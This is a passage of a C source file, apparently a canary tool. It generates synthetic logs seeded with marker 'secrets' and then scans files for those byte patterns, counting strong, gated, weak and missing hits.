		put_line(&maker, (enum file)(i % 4), BYTES, "1");
	/* One of each row in turn: every part of a log has them all. */
	for (int round = 0, left = 1; left; round++) {
		left = 0;
		for (maker.row = 0; maker.row < ROWS; maker.row++) {
			if (round >= rows[maker.row].n)
				continue;
			left = 1;
			fill(&maker, rows[maker.row].text, text);
			put_line(&maker, rows[maker.row].file, rows[maker.row].field, text);
		}
	}
	printf("%u\n", maker.id);
	for (size_t i = 0; i < FILES; i++)
		if (fclose(maker.logs[i]))
			die(logs[i]);
	return fclose(maker.needles) ? 2 : 0;
}

/* ---- the search ---- */

struct form {
	struct form *next;
	unsigned id, row, n;
	bool gate, weak, exact;
	unsigned char bytes[];
};

enum { BUCKETS = 1 << 20, SHOWN = 12 };

struct search {
	struct form *buckets[BUCKETS];
	uint8_t lower[256];
	uint8_t *found; /* by id: 1 strong, 2 weak */
	unsigned ids, strong, gated, weak;
	bool show;
};

static uint32_t bucket_of(const struct search *search, const unsigned char *p)
{
	uint32_t four = 0;
	for (size_t i = 0; i < 4; i++)
		four = four << 8 | search->lower[p[i]];
	return four * 2654435761u >> 12;
}

static void load(struct search *search, const char *path)
{
	FILE *file = fopen(path, "r");
	static char hex[8192];
	unsigned id, row, gate, weak, exact;
	if (!file)
		die(path);
	for (unsigned i = 0; i < 256; i++)
		search->lower[i] = (uint8_t)tolower((int)i);
	while (fscanf(file, "%u %u %u %u %u %8191s", &id, &row, &gate, &weak, &exact, hex) == 6) {
		size_t n = strlen(hex) / 2;
		struct form *form = malloc(sizeof(*form) + n);
		if (!form || n < 4)
			die("needle");
		*form = (struct form){.id = id,
				      .row = row,
				      .n = (unsigned)n,
				      .gate = gate,
				      .weak = weak,
				      .exact = exact};
		for (size_t i = 0; i < n; i++) {
			unsigned byte;
			sscanf(hex + 2 * i, "%2x", &byte);
			form->bytes[i] = (unsigned char)(exact ? byte : search->lower[byte]);
		}
		uint32_t bucket = bucket_of(search, form->bytes);
		form->next = search->buckets[bucket];
		search->buckets[bucket] = form;
		search->ids = id > search->ids ? id : search->ids;
	}
	fclose(file);
	search->found = calloc(search->ids + 1, 1);
	if (!search->found)
		die("memory");
}

static bool stands_at(const struct search *search, const struct form *form, const unsigned char *p,
		      size_t n)
{
	if (form->n > n)
		return false;
	if (form->exact)
		return memcmp(form->bytes, p, form->n) == 0;
	for (size_t i = 0; i < form->n; i++)
		if (search->lower[p[i]] != form->bytes[i])
			return false;
	return true;
}

static void hit(struct search *search, const struct form *form, const char *path, size_t offset)
{
	search->found[form->id] |= form->weak ? 2 : 1;
	if (form->weak) {
		search->weak++;
		return;
	}
	if (form->gate)
		search->gated++;
	else
		search->strong++;
	if (search->show && search->strong + search->gated <= SHOWN)
		printf("%s:%zu: secret %u of \"%s\"\n", path, offset, form->id,
		       rows[form->row].text);
}

static void look_into(struct search *search, const char *path)
{
	FILE *file = fopen(path, "rb");
	unsigned char *bytes = NULL;
	size_t n = 0, cap = 0, got;
	if (!file)
		die(path);
	do {
		if (cap - n < 1 << 16 && !(bytes = realloc(bytes, cap = 2 * cap + (1 << 17))))
			die("memory");
		got = fread(bytes + n, 1, cap - n, file);
		n += got;
	} while (got);
	fclose(file);
	for (size_t i = 0; i + 4 <= n; i++)
		for (const struct form *form = search->buckets[bucket_of(search, bytes + i)]; form;
		     form = form->next)
			if (stands_at(search, form, bytes + i, n - i))
				hit(search, form, path, i);
	free(bytes);
}

static int find(int n, char **argv)
{
	static struct search search;
	unsigned secrets = 0;
	load(&search, argv[0]);
	search.show = !getenv("QUIET");
	for (int i = 1; i < n; i++)
		look_into(&search, argv[i]);
	for (unsigned id = 1; id <= search.ids; id++)
		secrets += search.found[id] != 0;
	if (getenv("MISSING"))
		for (unsigned id = 1; id <= search.ids; id++)
			if (!search.found[id])
				printf("secret %u was not found\n", id);
	printf("secrets %u hits %u gated %u weak %u files %d\n", secrets, search.strong,
	       search.gated, search.weak, n - 1);
	return 0;
}

static int bytes(void)
{
	int c, high, low;
	while ((c = getchar()) != EOF) {
		if (c != '\\')
			continue;
		if (getchar() != 'x' || (high = getchar()) == EOF || (low = getchar()) == EOF)
			continue;
		char hex[3] = {(char)high, (char)low, '\0'};
		putchar((int)strtoul(hex, NULL, 16));
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "make") == 0)
		return make(argv[2], argv[3]);
	if (argc > 3 && strcmp(argv[1], "find") == 0)
		return find(argc - 2, argv + 2);
	if (argc == 2 && strcmp(argv[1], "bytes") == 0)
		return bytes();
	fputs("usage: see the top of canaries.c\n", stderr);
	return 2;
}
